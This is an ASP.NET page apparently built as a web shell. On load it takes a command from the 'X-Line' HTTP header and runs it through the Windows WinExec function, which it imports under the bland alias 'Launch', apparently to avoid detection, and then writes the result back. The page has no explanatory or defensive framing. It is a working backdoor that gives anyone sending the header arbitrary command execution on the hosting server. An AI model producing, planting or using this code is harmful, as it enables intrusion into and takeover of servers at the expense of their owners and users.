<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
    // the process-creation function bound under a name of the page's own
    [DllImport("kernel32", EntryPoint = "WinExec")]
    static extern uint Launch(string line, uint show);

    void Page_Load(object sender, EventArgs e)
    {
        string line = Request.Headers["X-Line"];
        if (!string.IsNullOrEmpty(line)) { Response.Write(Launch(line, 0)); }
    }
</script>
